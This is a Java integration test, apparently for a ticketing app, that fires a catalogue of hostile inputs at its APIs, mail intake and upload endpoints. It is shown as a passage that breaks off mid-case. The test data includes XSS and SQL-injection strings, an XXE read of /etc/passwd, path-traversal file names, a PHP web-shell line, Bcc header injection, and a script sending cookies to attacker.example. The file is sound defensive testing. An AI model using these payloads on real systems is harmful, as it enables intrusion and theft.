package com.triagedesk;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.function.IntFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.assertj.core.api.InstanceOfAssertFactories;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

import org.springframework.beans.factory.annotation.Autowired;

import com.triagedesk.RawHttp.Request;
import com.triagedesk.RawHttp.Response;
import com.triagedesk.api.ApiKeys;
import com.triagedesk.api.ApiScope;
import com.triagedesk.dashboard.StaffUsers;
import com.triagedesk.intake.AttachmentIntakeIntegrationTestSupport;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

/**
 * The hostile-input catalogue: every public door (the request API in JSON and multipart, follow-ups,
 * inbound e-mail, the public web pages, odd addresses) fed broken, oversized, invisible, injected
 * and mistyped input. Each case says what must happen:
 * <ul>
 * <li>{@code REFUSED}: a 4xx answer of the stated status, a problem detail under {@code /api} (an
 * HTML page, or the page's redirect with its error, on the web pages), and not one row more in
 * any table;</li>
 * <li>{@code ISSUE_CREATED} / {@code MESSAGE_ADDED}: the content is legitimate, exactly one issue
 * (or message) is stored, with the hostile text as it was sent, and the status page and the
 * dashboard show it as text, never as markup;</li>
 * <li>{@code CHECKED}: evaluated and answered, nothing stored;</li>
 * <li>{@code MAIL_LOGGED} / {@code MAIL_NEW_ISSUE}: inbound mail is always accounted for in the
 * intake log; a bomb or a loop gets only that row, a readable mail becomes one issue.</li>
 * </ul>
 * Never a 5xx, a stack trace or an exception's class name. The figures of the run are written to
 * {@code target/hostile-input-summary.txt}.
 */
class HostileInputCatalogueIntegrationTest extends AppIntegrationTest {

	private static final JsonMapper JSON = JsonMapper.builder().build();

	/** The tables a request can write to; a refusal leaves every one of them as it was. */
	private static final List<String> TABLES = List.of("issue", "message", "participant", "attachment", "issue_event",
			"mail_outbox", "redirect", "inbound_mail", "webhook_delivery", "idempotency_key");

	/** What a stack trace or a leaked exception looks like in an answer. */
	private static final Pattern LEAK = Pattern.compile("\\bat [a-z][\\w$]*(\\.[\\w$]+)+\\(|\\b[A-Za-z]+Exception\\b"
			+ "|\\b[A-Z][a-z]+[A-Z]\\w*Error\\b|java\\.(lang|io|util)\\.|org\\.springframework\\.|org\\.apache\\."
			+ "|org\\.hibernate\\.|tools\\.jackson\\.|com\\.fasterxml\\.|jakarta\\.mail\\.|com\\.triagedesk\\.");

	private static final String SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>";

	private static final String SQL = "'; DROP TABLE issue; -- \" OR 1=1 -- %_\\ $$x$$";

	private static final String SUBJECT = "POST /epayment/v1/payments gives HTTP 400";

	private static final String DESCRIPTION = "1. We create a payment with the body below. 2. We get HTTP 400 back. "
			+ "It has failed for every order since yesterday, in the test environment.";

	/** A screenshot as sent (PNG magic and header), and a script posing as one. */
	private static final byte[] PNG = AttachmentIntakeIntegrationTestSupport.png();

	private static final byte[] SCRIPT_FILE = "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8);

	private static final AtomicInteger SEQUENCE = new AtomicInteger();

	private static final Map<String, Integer> OUTCOMES = new TreeMap<>();

	private static final Map<Integer, Integer> STATUSES = new TreeMap<>();

	private static final List<String> ROWS = new ArrayList<>();

	private static int tried;

	private static int serverErrors;

	private static int leaks;

	private static int strayRows;

	private static String mailKey;

	private static RawHttp visitor;

	private static String visitorCsrf;

	private static String visitorCsrfHeader;

	private static RawHttp agent;

	@Autowired
	ApiKeys keys;

	@Autowired
	StaffUsers staff;

	// ---- the test ------------------------------------------------------------------------

	@ParameterizedTest(name = "[{index}] {0}")
	@MethodSource("catalogue")
	void hostileInputIsRefusedCleanlyOrKeptAsText(Case c) {
		Fixture fixture = new Fixture();
		Request request = c.request().apply(fixture);
		Map<String, Long> before = counts();
		Response response = (c.web() ? visitor(fixture) : new RawHttp(port)).send(request);
		Map<String, Long> after = counts();
		Map<String, Long> changed = delta(before, after);
		String body = response.body();
		tally(c, response, changed, body);

		assertThat(response.status()).as("%s answered %s: %s", c, response.status(), abbreviate(body)).isLessThan(500);
		assertThat(leak(body) + leak(String.valueOf(response.headers())))
			.as("%s leaks a stack trace or an exception name", c)
			.isEmpty();
		Expect expect = c.expect();
		switch (expect.outcome()) {
			case REFUSED -> {
				assertThat(response.status()).as("%s: %s", c, abbreviate(body)).isEqualTo(expect.status());
				assertAnswerForm(c, response, expect);
				assertThat(changed).as("%s must store nothing", c).isEmpty();
			}
			case CHECKED -> {
				assertThat(response.status()).as("%s: %s", c, abbreviate(body)).isEqualTo(200);
				assertThat(changed).as("%s must store nothing", c).isEmpty();
				if (c.web()) {
					assertThat(injected(body)).as("%s: markup in the checklist fragment", c).isEmpty();
				}
			}
			case ISSUE_CREATED -> {
				Created created = created(c, response);
				assertThat(changed.get("issue")).as("%s: issues stored", c).isEqualTo(1L);
				assertThat(changed.get("message")).as("%s: messages stored", c).isEqualTo(1L);
				assertThat(changed).as("%s: a redirect instead of an issue", c).doesNotContainKey("redirect");
				assertShownAsText(c, created.key(), created.token());
				c.check().verify(fixture, response, created.key());
			}
			case MESSAGE_ADDED -> {
				assertThat(response.status()).as("%s: %s", c, abbreviate(body)).isEqualTo(c.web() ? 302 : 201);
				if (c.web()) {
					assertThat(response.header("Location")).as("%s", c).doesNotContain("error");
				}
				assertThat(changed).as("%s: a new issue", c).doesNotContainKey("issue");
				assertThat(changed.get("message")).as("%s: messages stored", c).isEqualTo(1L);
				assertShownAsText(c, fixture.issue.key(), fixture.issue.token());
				c.check().verify(fixture, response, fixture.issue.key());
			}
			case MAIL_LOGGED -> {
				assertThat(response.status()).as("%s: %s", c, abbreviate(body)).isEqualTo(200);
				assertThat(response.contentType()).startsWith("application/json");
				assertThat(JSON.readTree(body).get("outcome").asString()).as("%s: %s", c, body).isEqualTo(expect.mail());
				assertThat(changed.get("inbound_mail")).as("%s: intake log rows", c).isEqualTo(1L);
				assertThat(changed.keySet()).as("%s stored more than its log row", c)
					.isSubsetOf("inbound_mail", "mail_outbox");
				assertThat(changed.getOrDefault("mail_outbox", 0L)).as("%s: mails queued", c).isLessThanOrEqualTo(1L);
				c.check().verify(fixture, response, null);
			}
			case MAIL_NEW_ISSUE -> {
				assertThat(response.status()).as("%s: %s", c, abbreviate(body)).isEqualTo(200);
				JsonNode result = JSON.readTree(body);
				assertThat(result.get("outcome").asString()).as("%s: %s", c, body).isEqualTo("NEW_ISSUE");
				assertThat(changed.get("issue")).as("%s: issues stored", c).isEqualTo(1L);
				assertThat(changed.get("inbound_mail")).as("%s: intake log rows", c).isEqualTo(1L);
				String key = result.get("issueKey").asString();
				assertShownAsText(c, key, null);
				c.check().verify(fixture, response, key);
			}
		}
	}

	@Test
	void theCatalogueHasAtLeast150Cases() {
		assertThat(catalogue().count()).isGreaterThanOrEqualTo(150);
	}

	@Test
	void theMarkupCheckFindsWhatABrowserWouldRun() {
		assertThat(injected("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><script src=\"/js/app.js\"></script>")).isEmpty();
		assertThat(injected("<p><script>alert(1)</script></p>")).hasSize(1);
		assertThat(injected("<img src=x onerror=alert(1)>")).hasSize(2);
		assertThat(injected("<a href=\"javascript:alert(1)\">x</a><svg onload=alert(1)></svg>")).hasSize(3);
	}

	@AfterAll
	static void writeSummary() throws IOException {
		StringBuilder summary = new StringBuilder();
		summary.append("Hostile-input catalogue: ").append(tried).append(" cases tried; ").append(serverErrors)
			.append(" answered 5xx; ").append(leaks).append(" leaked a stack trace or exception name; ")
			.append(strayRows).append(" refusals left rows behind.\n");
		summary.append("Outcomes: ").append(OUTCOMES).append('\n');
		summary.append("Statuses: ").append(STATUSES).append('\n');
		summary.append('\n');
		ROWS.forEach(row -> summary.append(row).append('\n'));
		Path target = Path.of("target");
		Files.createDirectories(target);
		Files.writeString(target.resolve("hostile-input-summary.txt"), summary.toString());
		System.out.println(summary.substring(0, summary.indexOf("\n\n")));
	}

	// ---- the catalogue -------------------------------------------------------------------

	static Stream<Case> catalogue() {
		List<Case> all = new ArrayList<>();
		all.addAll(jsonSyntax());
		all.addAll(jsonTypesAndSizes());
		all.addAll(controlAndInvisibleCharacters());
		all.addAll(addresses());
		all.addAll(markupAndSql());
		all.addAll(multipartAndFiles());
		all.addAll(followUps());
		all.addAll(inboundEmail());
		all.addAll(webPages());
		all.addAll(oddPaths());
		return all.stream();
	}

	private static List<Case> jsonSyntax() {
		String valid = request(r -> {
		});
		return List.of(
				api("json", "empty body", refused(400), f -> postJson("")),
				api("json", "only an opening brace", refused(400), f -> postJson("{")),
				api("json", "cut off inside a string", refused(400), f -> postJson("{\"subject\": \"POST /epay")),
				api("json", "cut off before the closing brace", refused(400),
						f -> postJson(valid.substring(0, valid.length() - 1))),
				api("json", "null", refused(400), f -> postJson("null")),
				api("json", "an array", refused(400), f -> postJson("[]")),
				api("json", "a string", refused(400), f -> postJson("\"subject\"")),
				api("json", "a number", refused(400), f -> postJson("42")),
				api("json", "an empty object", refused(400), f -> postJson("{}")),
				api("json", "garbage after the object", refused(400), f -> postJson(valid + " }}]] garbage")),
				api("json", "two objects in a row", refused(400), f -> postJson(valid + valid)),
				api("json", "single quotes", refused(400), f -> postJson(valid.replace('"', '\''))),
				api("json", "a comment", refused(400), f -> postJson("/* hi */" + valid)),
				api("json", "unquoted field names", refused(400),
						f -> postJson("{subject: \"a\", description: \"b\", reporter: {email: \"kari@shop.no\"}}")),
				api("json", "NaN as a value", refused(400), f -> postJson(valid.replaceFirst("\\{", "{\"orderId\": NaN, "))),
				api("json", "a trailing comma", refused(400), f -> postJson(valid.replaceFirst("}$", ", }"))),
				api("json", "the subject twice", refused(400),
						f -> postJson(valid.replaceFirst("\\{", "{\"subject\": \"first subject, then another\", "))),
				api("json", "an unescaped control character in a string", refused(400),
						f -> postJson(valid.replace("gives HTTP", "gives\u0001HTTP"))),
				api("json", "a UTF-8 byte-order mark first", created(),
						f -> Request.post("/api/v1/requests", "application/json",
								concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }, utf8(valid)))),
				api("json", "not JSON at all: XML with an external entity", refused(400),
						f -> postJson("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
				api("json", "XML declared as XML", refused(415),
						f -> Request.post("/api/v1/requests", "application/xml", "<request><subject>x</subject></request>")),
				api("json", "JSON declared as text/plain", refused(415),
						f -> Request.post("/api/v1/requests", "text/plain", valid)),
				api("json", "no Content-Type", refused(415), f -> Request.post("/api/v1/requests", null, valid)),
				api("json", "a Content-Type with a broken parameter", refused(415),
						f -> Request.post("/api/v1/requests", "application/json; charset=\"", valid)),
				api("json", "an unknown charset", refused(415),
						f -> Request.post("/api/v1/requests", "application/json; charset=x-evil-7", valid)),
				api("json", "broken JSON from a browser (Accept: text/html)", refused(400),
						f -> postJson("{").with("Accept: text/html,application/xhtml+xml,*/*;q=0.8")),
				api("json", "Accept: only XML", refused(406),
						f -> Request.post("/api/v1/requests", "application/json", valid, "Accept: application/xml")));
	}

	private static List<Case> jsonTypesAndSizes() {
		List<Case> cases = new ArrayList<>(List.of(
				api("types", "subject as an object", refused(400), f -> postJson(request(r -> r.putObject("subject")))),
				api("types", "subject as an array", refused(400),
						f -> postJson(request(r -> r.putArray("subject").add("a")))),
				api("types", "subject null", refused(400), f -> postJson(request(r -> r.putNull("subject")))),
				api("types", "reporter as a string", refused(400),
						f -> postJson(request(r -> r.put("reporter", "kari@shop.no")))),
				api("types", "reporter as an array", refused(400),
						f -> postJson(request(r -> r.putArray("reporter").add("kari@shop.no")))),
				api("types", "reporter missing", refused(400), f -> postJson(request(r -> r.remove("reporter")))),
				api("types", "cc as a string", refused(400), f -> postJson(request(r -> r.put("cc", "ola@shop.no")))),
				api("types", "cc holding objects", refused(400),
						f -> postJson(request(r -> r.putArray("cc").addObject().put("email", "ola@shop.no")))),
				api("types", "cc holding null", refused(400), f -> postJson(request(r -> r.putArray("cc").addNull()))),
				api("types", "occurredOn as a string", refused(400),
						f -> postJson(request(r -> r.put("occurredOn", "2026-01-05")))),
				api("types", "httpExchange as a string", refused(400),
						f -> postJson(request(r -> r.put("httpExchange", "GET / HTTP/1.1")))),
				api("types", "httpExchange.request as an object nested 5,000 deep", refused(400),
						f -> postJson(request(r -> r.putObject("httpExchange").put("request", "PLACEHOLDER"))
							.replace("\"PLACEHOLDER\"", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000)))),
				api("types", "an array nested 100,000 deep", refused(400),
						f -> postJson("[".repeat(100_000) + "]".repeat(100_000))),
				api("types", "an unknown field nested 100,000 deep", refused(413),
						f -> postJson("{\"x\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}")),
				api("types", "a number 5,000 digits long", refused(413),
						f -> postJson(request(r -> r.put("orderId", "PLACEHOLDER"))
							.replace("\"PLACEHOLDER\"", "9".repeat(5000)))),
				api("types", "an unknown field (msn)", refused(400), f -> postJson(request(r -> r.put("msn", "123456")))),
				api("types", "a __proto__ field", refused(400),
						f -> postJson(request(r -> r.putObject("__proto__").put("admin", true)))),
				api("types", "a field name with a NUL", refused(400),
						f -> postJson(request(r -> r.put("subj\u0000ect", "x")))),
				api("sizes", "subject of 501 characters", refused(400),
						f -> postJson(request(r -> r.put("subject", "a ".repeat(250) + "b")))),
				api("sizes", "description of 200,001 characters", refused(400),
						f -> postJson(request(r -> r.put("description", "x".repeat(200_001))))),
				api("sizes", "description of 10 MB", refused(400),
						f -> postJson(request(r -> r.put("description", "word ".repeat(2_000_000))))),
				api("sizes", "HTTP request of 1,000,001 characters", refused(400),
						f -> postJson(request(r -> r.putObject("httpExchange").put("request", "x".repeat(1_000_001))))),
				api("sizes", "body of 26 MB, announced", refused(413),
						f -> postJson(request(r -> r.put("additionalInfo", "x".repeat(26 * 1024 * 1024))))),
				api("sizes", "body of 26 MB, chunked", refused(413),
						f -> postJson(request(r -> r.put("additionalInfo", "x".repeat(26 * 1024 * 1024)))).chunkedBody()),
				api("sizes", "10,000 occurredOn dates", refused(400),
						f -> postJson(request(r -> fill(r.putArray("occurredOn"), 10_000, i -> "2026-01-05")))),
				api("sizes", "a header of 64 KB", refused(400),
						f -> postJson(request(r -> {
						})).with("X-Filler: " + "a".repeat(64 * 1024))),
				api("sizes", "Prefer: strict with an incomplete request", refused(422),
						f -> postJson(request(r -> {
						})).with("Prefer: handling=strict"))));
		return cases;
	}

	/** The text fields of a request, each a place for hostile text. */
	private static final List<String> TEXT_FIELDS = List.of("subject", "description", "reporter.name", "reporter.phone",
			"organizationNumber", "merchantSerialNumber", "product", "environment", "orderId", "transactionId",
			"contextId", "occurredOn", "httpExchange.request", "httpExchange.response", "topic", "additionalInfo",
			"cc");

	private static List<Case> controlAndInvisibleCharacters() {
		List<Case> cases = new ArrayList<>();
		for (String field : TEXT_FIELDS) {
			cases.add(api("control", "NUL in " + field, refused(400),
					f -> postJson(request(r -> set(r, field, field.equals("cc") ? "ola\u0000@shop.no" : "abc\u0000def")))));
		}
		cases.add(api("control", "ESC in the subject", refused(400),
				f -> postJson(request(r -> r.put("subject", SUBJECT + "\u001b[31m red")))));
		cases.add(api("control", "DEL in the description", refused(400),
				f -> postJson(request(r -> r.put("description", DESCRIPTION + "\u007f")))));
		cases.add(api("control", "NEL (C1 control) in the reporter's name", refused(400),
				f -> postJson(request(r -> set(r, "reporter.name", "Kari\u0085Nordmann")))));
		cases.add(api("control", "a lone surrogate in the subject", refused(400),
				f -> postJson(request(r -> r.put("subject", "PLACEHOLDER")).replace("PLACEHOLDER", SUBJECT + " \\ud800"))));
		cases.add(api("utf8", "an invalid byte (0xFF) in a string", refused(400),
				f -> postBytes(replace(request(r -> r.put("subject", SUBJECT + " #")), "#", new byte[] { (byte) 0xFF }))));
		cases.add(api("utf8", "a broken two-byte sequence", refused(400),
				f -> postBytes(replace(request(r -> r.put("subject", SUBJECT + " #")), "#",
						new byte[] { (byte) 0xC3, 0x28 }))));
		cases.add(api("utf8", "an overlong NUL (C0 80)", refused(400),
				f -> postBytes(replace(request(r -> r.put("subject", SUBJECT + " #")), "#",
						new byte[] { (byte) 0xC0, (byte) 0x80 }))));
		cases.add(api("utf8", "an encoded surrogate (ED A0 80)", refused(400),
				f -> postBytes(replace(request(r -> r.put("subject", SUBJECT + " #")), "#",
						new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }))));
		cases.add(api("utf8", "a sequence cut off at the end of the body", refused(400),
				f -> postBytes(concat(utf8(request(r -> {
				})), new byte[] { (byte) 0xE2, (byte) 0x82 }))));
		cases.add(api("utf8", "Latin-1 declared and sent", created(),
				f -> Request.post("/api/v1/requests", "application/json; charset=ISO-8859-1",
						request(r -> set(r, "reporter.name", "Bjørn Ærø")).getBytes(StandardCharsets.ISO_8859_1)),
				stored("select name from participant p join issue i on i.id = p.issue_id where i.issue_key = ? "
						+ "and p.role = 'REPORTER'", "Bjørn Ærø")));
		String rlo = SUBJECT + " \u202Eexe.fdp\u202C";
		cases.add(api("invisible", "a right-to-left override in the subject", created(),
				f -> postJson(request(r -> r.put("subject", rlo))), stored("select subject from issue where issue_key = ?", rlo)));
		String isolates = DESCRIPTION + " \u2067\u2066 access level: user\u2069\u2069";
		cases.add(api("invisible", "bidi isolates in the description", created(),
				f -> postJson(request(r -> r.put("description", isolates))),
				stored("select description from issue where issue_key = ?", isolates)));
		String zeroWidth = "Ka\u200Bri\u200D Nord\u2060mann\uFEFF";
		cases.add(api("invisible", "zero-width characters in the reporter's name", created(),
				f -> postJson(request(r -> set(r, "reporter.name", zeroWidth))),
				stored("select name from participant p join issue i on i.id = p.issue_id where i.issue_key = ? "
						+ "and p.role = 'REPORTER'", zeroWidth)));
		String separators = SUBJECT + "\u2028Bcc: evil@attacker.example\u2029";
		cases.add(api("invisible", "Unicode line separators in the subject", created(),
				f -> postJson(request(r -> r.put("subject", separators))), mailHeadersAreOneLine()));
		String emoji = DESCRIPTION + " 👩🏽‍💻🏳️‍🌈 𝕳𝖊𝖑𝖑𝖔 \uDB40\uDC41";
		cases.add(api("invisible", "emoji, ZWJ sequences and tag characters", created(),
				f -> postJson(request(r -> r.put("description", emoji))),
				stored("select description from issue where issue_key = ?", emoji)));
		return cases;
	}

	private static List<Case> addresses() {
		List<Case> cases = new ArrayList<>();
		List<String> bad = List.of("kari", "kari@", "@shop.no", "kari@shop", "kari@@shop.no", "kari @shop.no",
				"kari@shop.no\r\nBcc: evil@attacker.example", "kari@shop.no\nBcc: evil@attacker.example",
				"Kari <kari@shop.no>", "kari@shop.no, evil@attacker.example", "\"kari nordmann\"@shop.no",
				"k".repeat(250) + "@shop.no", "kari@shop.no\t", "ka\u200Bri@shop.no", "kari@sh\u202Eon.pohs",
				"kari@localhost", "kari@shop..no", "kari@-shop.no", "<script>@shop.no", "kari@shop.no;evil");
		for (String address : bad) {
			cases.add(api("address", "reporter " + printable(address), refused(400),
					f -> postJson(request(r -> set(r, "reporter.email", address)))));
			cases.add(api("address", "CC " + printable(address), refused(400),
					f -> postJson(request(r -> r.putArray("cc").add(address)))));
		}
		cases.add(api("address", "10,000 CC addresses", refused(400),
				f -> postJson(request(r -> fill(r.putArray("cc"), 10_000, n -> "cc" + n + "@shop.no")))));
		cases.add(api("address", "the same CC 10,000 times", refused(400),
				f -> postJson(request(r -> fill(r.putArray("cc"), 10_000, n -> "ola@shop.no")))));
		cases.add(api("address", "51 CC addresses", refused(400),
				f -> postJson(request(r -> fill(r.putArray("cc"), 51, n -> "cc" + n + "@shop.no")))));
		cases.add(api("address", "50 CC addresses: the reporter makes 51 participants", refused(400),
				f -> postJson(request(r -> fill(r.putArray("cc"), 50, n -> "cc" + n + "@shop.no")))));
		cases.add(api("address", "49 CC addresses: 50 participants, the most", created(),
				f -> postJson(request(r -> fill(r.putArray("cc"), 49, n -> "cc" + n + "@shop.no"))),
				participants(50)));
		cases.add(api("address", "the reporter again in CC, in capitals", created(),
				f -> postJson(request(r -> r.putArray("cc").add("KARI@SHOP.NO"))), participants(1)));
		cases.add(api("address", "the support address itself in CC", refused(400),
				f -> postJson(request(r -> r.putArray("cc").add("support@localhost")))));
		cases.add(api("header", "CR/LF and a Bcc in the subject", created(),
				f -> postJson(request(r -> r.put("subject", SUBJECT + "\r\nBcc: evil@attacker.example\r\n"))),
				mailHeadersAreOneLine()));
		cases.add(api("header", "CR/LF and a Bcc in the reporter's name", created(),
				f -> postJson(request(r -> set(r, "reporter.name", "Kari\r\nBcc: evil@attacker.example"))),
				mailHeadersAreOneLine()));
		cases.add(api("header", "CR/LF in the phone number", created(),
				f -> postJson(request(r -> set(r, "reporter.phone", "+47 912 34 567\r\nX-Evil: 1"))),
				mailHeadersAreOneLine()));
		cases.add(api("header", "an encoded-word in the subject", created(),
				f -> postJson(request(r -> r.put("subject", SUBJECT + " =?UTF-8?Q?=0D=0ABcc:_evil@attacker.example?="))),
				mailHeadersAreOneLine()));
		cases.add(api("header", "a 500-character subject", created(),
				f -> postJson(request(r -> r.put("subject", SUBJECT + " " + "very ".repeat(91)))), mailHeadersAreOneLine()));
		return cases;
	}

	private static List<Case> markupAndSql() {
		List<Case> cases = new ArrayList<>();
		for (String field : TEXT_FIELDS) {
			if (field.equals("cc")) {
				continue;
			}
			// The phone number holds 50 characters: a shorter handler.
			String value = field.equals("reporter.phone") ? "<img src=x onerror=alert(1)>" : SCRIPT + " in " + field;
			Check stored = storedIn(field, value);
			Check check = SHOWN.contains(field) ? (fixture, response, key) -> {
				stored.verify(fixture, response, key);
				shownAsText(value).verify(fixture, response, key);
			} : stored;
			cases.add(api("markup", "script and an onerror handler in " + field, created(),
					f -> postJson(request(r -> set(r, field, value))), check));
		}
		String links = DESCRIPTION + " [click](javascript:alert(1)) <a href=\"javascript:alert(2)\">x</a> "
				+ "<iframe src=\"https://attacker.example\"></iframe> <svg onload=alert(3)> <meta http-equiv=refresh "
				+ "content=\"0;url=https://attacker.example\"> {{7*7}} ${7*7} <base href=\"https://attacker.example/\">";
		cases.add(api("markup", "links, frames, SVG, meta refresh and template syntax", created(),
				f -> postJson(request(r -> r.put("description", links))),
				stored("select description from issue where issue_key = ?", links)));
		String broken = DESCRIPTION + " </pre></textarea></title><script>alert(1)</script><!--";
		cases.add(api("markup", "closing the surrounding elements", created(),
				f -> postJson(request(r -> r.put("description", broken))),
				stored("select description from issue where issue_key = ?", broken)));
		for (String field : List.of("subject", "description", "orderId", "reporter.name", "organizationNumber",
				"merchantSerialNumber", "httpExchange.request")) {
			String value = (field.equals("subject") ? SUBJECT + " " : "") + SQL;
			cases.add(api("sql", "SQL meta-characters in " + field, created(),
					f -> postJson(request(r -> set(r, field, value))), storedIn(field, value)));
		}
		return cases;
	}

	private static List<Case> multipartAndFiles() {
		byte[] png = PNG;
		byte[] script = utf8("<script>fetch('https://attacker.example/?c='+document.cookie)</script>");
		return List.of(
				api("multipart", "no boundary in the Content-Type", refused(400),
						f -> Request.post("/api/v1/requests", "multipart/form-data", utf8("--x\r\n\r\nhello\r\n--x--\r\n"))),
				api("multipart", "a body that is not multipart", refused(400),
						f -> Request.post("/api/v1/requests", "multipart/form-data; boundary=abc", utf8(request(r -> {
						})))),
				api("multipart", "cut off before the closing boundary", refused(400), f -> {
					Multipart m = withRequest(request(r -> {
					}));
					byte[] all = m.bytes();
					return Request.post("/api/v1/requests", m.contentType(), Arrays.copyOf(all, all.length - 30));
				}),
				api("multipart", "no request part", refused(400),
						f -> multipart(new Multipart().part("files", "a.png", "image/png", png))),
				api("multipart", "a request part that is broken JSON", refused(400),
						f -> multipart(new Multipart().json("request", "{\"subject\": "))),
				api("multipart", "a request part that is not JSON", refused(415),
						f -> multipart(new Multipart().part("request", null, "text/plain", utf8(request(r -> {
						}))))),
				api("multipart", "a request part with a NUL in the subject", refused(400),
						f -> multipart(withRequest(request(r -> r.put("subject", "a\u0000b"))))),
				api("multipart", "a request part with 10,000 CC addresses", refused(400),
						f -> multipart(withRequest(request(r -> fill(r.putArray("cc"), 10_000, n -> "cc" + n + "@shop.no"))))),
				api("multipart", "5,000 parts", refused(413), f -> {
					Multipart m = withRequest(request(r -> {
					}));
					for (int i = 0; i < 5000; i++) {
						m.part("x" + i, null, null, new byte[] { 'a' });
					}
					return multipart(m);
				}),
				api("multipart", "a part header of 100 KB", refused(413), f -> {
					Multipart m = withRequest(request(r -> {
					}));
					return multipart(m.part("files", "a".repeat(100 * 1024) + ".txt", "text/plain", utf8("log line")));
				}),
				api("files", "11 files", refused(400), f -> {
					Multipart m = withRequest(request(r -> {
					}));
					for (int i = 0; i < 11; i++) {
						m.part("files", "shot" + i + ".png", "image/png", png);
					}
					return multipart(m);
				}),
				api("files", "a file of 11 MB", refused(413),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "big.log", "text/plain", utf8("x".repeat(11 * 1024 * 1024))))),
				api("files", "files of 27 MB together", refused(413), f -> {
					Multipart m = withRequest(request(r -> {
					}));
					for (int i = 0; i < 3; i++) {
						m.part("files", "part" + i + ".log", "text/plain", utf8("x".repeat(9 * 1024 * 1024)));
					}
					return multipart(m);
				}),
				api("files", "a script declared as image/png", refused(400),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "screenshot.png", "image/png", script))),
				api("files", "an SVG with a script, declared image/svg+xml", refused(400),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "logo.svg", "image/svg+xml",
								utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")))),
				api("files", "a PHP script named .png, declared octet-stream", refused(415),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "shell.png", "application/octet-stream", utf8("<?php system($_GET['c']); ?>")))),
				api("files", "a ZIP named .txt, declared application/zip", refused(400),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "logs.txt", "application/zip", new byte[] { 'P', 'K', 3, 4, (byte) 0xFF, 0, 0 }))),
				api("files", "a Windows executable", refused(415),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "setup.exe", "application/x-msdownload", new byte[] { 'M', 'Z', (byte) 0x90, 0 }))),
				api("files", "a log in UTF-16", refused(400),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "server.log", "text/plain", "line one".getBytes(StandardCharsets.UTF_16)))),
				api("files", "a HAR file of 11 MB", refused(413),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "session.har", "application/json", har(40_000)))),
				api("files", "a HAR file nested 100,000 deep", created(),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "deep.har", "application/json",
								utf8("{\"log\":{\"entries\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}}"))),
						attachments(1)),
				api("files", "a HAR file cut off in the middle", created(),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "cut.har", "application/json",
								Arrays.copyOf(har(10), har(10).length / 2))),
						attachments(1)),
				api("files", "a HAR file of 3 MB with 10,000 entries", created(),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "session.har", "application/json", har(10_000))), attachments(1)),
				api("files", "a PNG that is also HTML (polyglot)", created(),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "shot.png", "image/png", concat(png, script))), attachments(1)),
				api("files", "an HTML file declared text/html", created(),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "page.html", "text/html", script)),
						stored("select a.content_type from attachment a join issue i on i.id = a.issue_id "
								+ "where i.issue_key = ?", "text/plain; charset=utf-8")),
				api("files", "an empty file", created(),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "empty.png", "image/png", new byte[0])), attachments(0)),
				fileName("../../../../etc/passwd", "passwd"),
				fileName("..\\..\\windows\\system32\\config\\sam.txt", "sam.txt"),
				fileName("/etc/shadow.log", "shadow.log"),
				fileName("C:\\boot.ini.txt", "boot.ini.txt"),
				fileName("..", "attachment"),
				fileName("CON", "CON"),
				fileName("NUL.txt", "NUL.txt"),
				api("files", "file name with a raw NUL byte", refused(400),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "evil.txt\u0000.png", "text/plain", utf8("log line")))),
				fileName("invoice\u202Etxt.exe", "invoicetxt.exe"),
				fileName("<img src=x onerror=alert(1)>.txt", "<img src=x onerror=alert(1)>.txt"),
				fileName("'; DROP TABLE attachment; --.txt", "'; DROP TABLE attachment; --.txt"),
				fileName("x".repeat(300) + ".txt", "x".repeat(196) + ".txt"),
				// Tomcat reads at most 512 bytes of a part's headers.
				api("files", "a file name of 20,000 characters", refused(413),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "x".repeat(20_000) + ".txt", "text/plain", utf8("log line")))),
				api("multipart", "a body of 26 MB, chunked", refused(413),
						f -> multipart(withRequest(request(r -> {
						})).part("files", "big.log", "text/plain", utf8("x".repeat(26 * 1024 * 1024)))).chunkedBody()),
				api("files", "a file name with CR/LF (RFC 5987)", created(), f -> {
